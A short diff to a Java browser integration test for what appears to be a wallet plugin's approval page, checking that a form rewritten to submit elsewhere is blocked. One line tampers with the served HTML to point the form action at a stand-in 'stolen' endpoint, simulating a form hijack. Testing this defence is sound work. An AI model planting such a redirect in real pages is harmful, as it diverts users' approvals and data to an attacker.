@@ -147,8 +147,7 @@ final class PageInBrowserIT {
     void aFormThatWouldGoElsewhereStays() {
         fixture.ask(transfer("demo", 1));
         browser.signIn(CREDENTIAL);
-        server.spoil(text ->
-                text.replace("action=\"/plugins/wallet/approvals/decision\"", "action=\"http://127.0.0.2:9/stolen\""));
+        server.spoil(text -> text.replaceAll("action=\"[^\"]+/decision\"", "action=\"http://127.0.0.2:9/stolen\""));
         browser.lookAtFirst();
         browser.complaints();
         browser.clickInVain("#approve");
